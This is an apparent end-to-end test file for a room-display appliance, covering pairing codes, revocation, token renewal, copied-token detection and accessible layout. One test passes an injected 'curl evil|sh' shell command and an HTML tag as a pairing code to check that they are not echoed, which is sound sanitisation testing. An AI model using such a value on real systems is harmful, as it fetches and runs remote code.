"""A display is put up: the real program, a real browser, and what people type."""

import asyncio
import json
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any, Literal

import aiohttp
import pytest
from aiohttp.test_utils import TestServer
from playwright.async_api import Browser, BrowserContext, Page, expect

from bridge.callers import Caller
from bridge.paired import RENEWED_AFTER, WRITTEN_AFTER
from bridge.views.site import site as application
from bridge.views.web import COOKIE
from tests.bridge.conftest import Views
from tests.fakes.sources import event
from tests.process.chromium import a_second, lent, resized
from tests.process.conftest import Running, Site, until
from tests.process.test_demo import SIZES

pytestmark = pytest.mark.browser

ADA = Caller(name="control:ada", scopes=frozenset(["rooms"]))
"""Seconds after which a revoked display shows and gets nothing any more."""


class Wall:
    """An appliance that runs, and a browser beside a door."""

    def __init__(self, site: Site, running: Running, context: BrowserContext, page: Page) -> None:
        self.site = site
        self.running = running
        self.context = context
        self.page = page
        self.url = f"http://127.0.0.1:{running.port}"

    async def code(self) -> str:
        """What the display shows."""
        await self.page.goto(f"{self.url}/display")
        code = self.page.locator("#code")
        await expect(self.page.locator("#command")).to_contain_text("roombridge displays pair")
        return await code.inner_text()

    async def pair(self, room: str = "kestrel") -> str:
        """Type what it shows; the id of the display."""
        status, out, errors = await self.site.command(
            "displays", "pair", await self.code(), room, "--json"
        )
        assert status == 0, errors
        await expect(self.page.locator("h1")).to_have_text(room.title())
        return str(json.loads(out)["id"])

    async def displays(self) -> list[dict[str, Any]]:
        """What the list of displays is made of."""
        way = aiohttp.UnixConnector(path=str(self.site.folder / "data" / "control.sock"))
        async with (
            aiohttp.ClientSession(connector=way) as person,
            person.get("http://bridge/api/v1/displays") as answer,
        ):
            return list((await answer.json())["displays"])

    async def cookie(self) -> str:
        """The display's token, as its browser keeps it."""
        return next(one["value"] for one in await self.context.cookies() if one["name"] == COOKIE)


@pytest.fixture
async def wall(site: Site, browser: Browser) -> AsyncIterator[Wall]:
    site.add_room("heron")
    site.book("Harvest planning", hour=-0.1)
    async with site.running() as running:
        context = await browser.new_context(
            viewport={"width": 1280, "height": 800}, locale="en-GB", reduced_motion="reduce"
        )
        page = await context.new_page()
        complaints: list[str] = []
        page.on("pageerror", lambda error: complaints.append(str(error)))
        yield Wall(site, running, context, page)
        await context.close()
        assert complaints == []


async def test_a_display_is_paired_by_what_it_shows_and_stays_so(wall: Wall) -> None:
    shown = await wall.code()
    status, out, _ = await wall.site.command("displays", "pair", shown.lower(), "kestrel")
    assert status == 0
    assert out.startswith("kestrel: display ")
    assert "Chromium on Linux" in out
    page = wall.page
    await expect(page).to_have_url(f"{wall.url}/display/kestrel")
    await expect(page.locator("#title")).to_have_text("Harvest planning")
    assert COOKIE not in await page.evaluate("document.cookie")
    await page.reload()
    await expect(page.locator("#title")).to_have_text("Harvest planning")
    await page.goto(f"{wall.url}/display")
    await expect(page).to_have_url(f"{wall.url}/display/kestrel")

    async def seen() -> bool:
        return [one["live"] for one in await wall.displays()] == [True]

    await until(seen, "a display that is there")
    status, out, _ = await wall.site.command("displays", "list")
    assert (status, "now" in out) == (0, True)


async def test_a_wrong_code_or_room_is_told_and_while_nobody_answers_no_code_is_shown(
    wall: Wall,
) -> None:
    code = await wall.code()
    for words, told in (
        (("pair", "2222-2222", "kestrel"), "No display shows this code"),
        (("pair", code, "nowhere"), "There is no such room"),
        (("revoke", "nothing"), "There is no such paired display"),
        (("pair", "--move", "nothing", "kestrel"), "There is no such paired display"),
    ):
        status, _, errors = await wall.site.command("displays", *words)
        assert (status, told in errors) == (1, True), errors
    assert (await wall.site.command("displays", "pair", "kestrel"))[0] == 2
    wall.site.settings["listen"]["port"] = str(wall.running.port)
    await wall.running.stop()
    await expect(wall.page.locator("#words")).to_contain_text("No connection to the bridge")
    await expect(wall.page.locator("#code")).to_be_hidden()
    async with wall.site.running():
        await expect(wall.page.locator("#code")).to_be_visible(timeout=20_000)
        assert await wall.page.locator("#code").inner_text() != code


async def test_a_revoked_display_forgets_within_a_second_and_shows_a_code(wall: Wall) -> None:
    id_ = await wall.pair()
    page, token = wall.page, await wall.cookie()
    within = await a_second(page)
    await expect(page.locator("#title")).to_have_text("Harvest planning")
    stream = await wall.running.http.get(
        f"{wall.url}/api/v1/rooms/kestrel/stream", headers={"Authorization": f"Bearer {token}"}
    )
    await stream.content.readuntil(b"event: status")
    revoking = asyncio.create_task(wall.site.command("displays", "revoke", id_))
    await stream.content.read()
    ended = time.monotonic()
    await expect(page.locator("#title")).to_have_text("Pair this display", timeout=within * 1000)
    assert time.monotonic() - ended < within
    assert (await revoking)[0] == 0
    assert "Harvest" not in await page.content()
    answer = await wall.running.http.get(
        f"{wall.url}/api/v1/rooms/kestrel/agenda", headers={"Authorization": f"Bearer {token}"}
    )
    assert answer.status == 401
    await page.goto(f"{wall.url}/display/kestrel")
    await expect(page.locator("#title")).to_have_text("Pair this display")
    await wall.pair("heron")


async def test_it_outlives_a_restart_and_goes_to_its_new_room_by_itself(wall: Wall) -> None:
    id_ = await wall.pair()
    wall.site.settings["listen"]["port"] = str(wall.running.port)
    assert await wall.running.stop() == 0
    async with wall.site.running() as running:
        assert running.port == wall.running.port
        await wall.page.reload()
        await expect(wall.page.locator("h1")).to_have_text("Kestrel")
        _, out, _ = await wall.site.command("displays", "list", "--json")
        (listed,) = json.loads(out)["displays"]
        assert (listed["id"], listed["room"]) == (id_, "kestrel")
        assert (await wall.site.command("displays", "pair", "--move", id_, "heron"))[0] == 0
        await expect(wall.page).to_have_url(f"{wall.url}/display/heron")
        await expect(wall.page.locator("h1")).to_have_text("Heron")
        assert (await wall.site.command("displays", "revoke", id_))[0] == 0
        await expect(wall.page.locator("#title")).to_have_text("Pair this display")


# --- with a clock that is moved


class Door:
    """A browser before views whose clock is moved."""

    def __init__(self, views: Views, context: BrowserContext, page: Page, url: str) -> None:
        self.views = views
        self.context = context
        self.page = page
        self.url = url


@pytest.fixture
async def door(browser: Browser, views_of_now: Views) -> AsyncIterator[Door]:
    views = views_of_now
    screen = {"viewport": {"width": 1280, "height": 800}, "locale": "en-GB"}
    async with (
        views.database.running(),
        TestServer(application(views.house, views.routes())) as server,
        views.pairing.running(),
        lent(browser, **screen) as context,
    ):
        await views.keep(event("review", datetime.now(UTC)), as_of=datetime.now(UTC))
        # Loopback would see every room without a token.
        await context.set_extra_http_headers({"Via": "1.1 elsewhere"})
        page = await context.new_page()
        yield Door(views, context, page, f"http://127.0.0.1:{server.port}")
        views.hub.close()
        await page.close()


async def test_its_token_is_renewed_in_the_browser_and_the_copied_one_is_noticed(
    door: Door,
) -> None:
    views, page = door.views, door.page
    await page.clock.install()
    await page.goto(f"{door.url}/display")
    await expect(page.locator("#command")).to_contain_text("displays pair")
    anybody = await views.pairing.pair(await page.locator("#code").inner_text(), "kestrel", "", ADA)
    await page.clock.run_for(3000)
    await expect(page.locator("h1")).to_have_text("Kestrel")
    (before,) = await _cookies(door)
    views.clock.move(RENEWED_AFTER)
    async with page.expect_response(lambda one: one.url.endswith("/renew")) as renewed:
        await page.clock.run_for(31_000)
    assert (await renewed.value).status == 204
    (after,) = await _cookies(door)
    assert after != before
    views.clock.move(WRITTEN_AFTER)
    async with page.expect_response(lambda one: one.url.endswith("/renew")):
        await page.clock.run_for(3_600_000)

    async def ended() -> bool:
        return views.tokens.caller(before) is None

    await until(ended, "the end of the old token")
    assert views.tokens.caller(after)
    views.clock.move(WRITTEN_AFTER)
    copied = {"Authorization": f"Bearer {before}"}
    answer = await door.context.request.get(f"{door.url}/api/v1/rooms/kestrel", headers=copied)
    assert answer.status == 401

    async def noticed() -> bool:
        return "display_copied" in {trouble.code for _, trouble in views.health.all()}

    await until(noticed, "a finding")
    await expect(page.locator("h1")).to_have_text("Kestrel")
    assert anybody.room == "kestrel"


async def _cookies(door: Door) -> list[str]:
    return [one["value"] for one in await door.context.cookies() if one["name"] == COOKIE]


async def test_who_looks_without_a_token_has_none_renewed(door: Door) -> None:
    await door.context.set_extra_http_headers({})
    asked: list[str] = []
    door.page.on("request", lambda one: asked.append(one.url))
    await door.page.clock.install()
    await door.page.goto(f"{door.url}/display/kestrel")
    await expect(door.page.locator("h1")).to_have_text("Kestrel")
    await door.page.clock.run_for(31_000)
    assert asked
    assert not [url for url in asked if url.endswith("/renew")]


async def test_a_link_that_is_not_good_says_so_and_a_code_is_there_all_the_same(
    door: Door,
) -> None:
    await door.page.goto(f"{door.url}/display/kestrel#rb_wrong")
    await expect(door.page.locator("#words")).to_contain_text("The link is not valid")
    await expect(door.page.locator("#command")).to_contain_text("displays pair")
    assert "rb_wrong" not in door.page.url
    await door.context.set_offline(True)
    await expect(door.page.locator("#words")).to_contain_text("No connection", timeout=15_000)


async def test_where_the_picture_leads_there_is_the_command_and_nothing_of_a_stranger(
    door: Door,
) -> None:
    await door.page.goto(f"{door.url}/admin/pair?code=ABCD-EFGH")
    command = door.page.locator("#command")
    await expect(command).to_have_text("roombridge displays pair ABCD-EFGH ROOM")
    await door.page.goto(f"{door.url}/admin/pair?code=x;curl%20evil|sh<b>")
    await expect(command).to_have_text("roombridge displays pair CODE ROOM")


FINE = """() => {
  const shown = [...document.querySelectorAll('main, h1, pre, figure, svg, footer, footer p, .type')];
  const out = shown.filter((one) => {
    const box = one.getBoundingClientRect();
    return box.right > innerWidth + 1 || box.bottom > innerHeight + 1 || box.left < -1 || box.top < -1;
  });
  const cut = [...document.querySelectorAll('main, pre, .code, footer p')].filter(
    (one) => one.scrollWidth > one.clientWidth + 1,
  );
  const light = (colour) => {
    const parts = colour.match(/[\\d.]+/g).slice(0, 3).map((one) => one / 255);
    const linear = parts.map((one) => (one <= 0.04045 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4));
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2];
  };
  const ground = light(getComputedStyle(document.body).backgroundColor);
  const pale = [...document.querySelectorAll('h1, p, figcaption')].filter((one) => {
    const ink = light(getComputedStyle(one).color);
    return (Math.max(ink, ground) + 0.05) / (Math.min(ink, ground) + 0.05) < 4.5;
  });
  return [out, cut, pale].map((all) => all.map((one) => one.id || one.tagName));
}"""


SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")


async def test_all_of_it_is_seen_and_read_at_every_size_by_day_and_by_night(door: Door) -> None:
    page = door.page
    await page.goto(f"{door.url}/display")
    await expect(page.locator("#command")).to_contain_text("displays pair")
    grounds = set()
    for scheme in SCHEMES:
        await page.emulate_media(color_scheme=scheme)
        grounds.add(await page.evaluate("getComputedStyle(document.body).backgroundColor"))
        for width, height in SIZES:
            await resized(page, width, height)
            assert await page.evaluate(FINE) == [[], [], []], (scheme, width, height)
    assert len(grounds) == 2
    await expect(page.get_by_role("img")).to_have_accessible_name("Or scan this code")
    assert len(await page.locator("#spoken").inner_text()) > len("The code is 1 2 3 4")
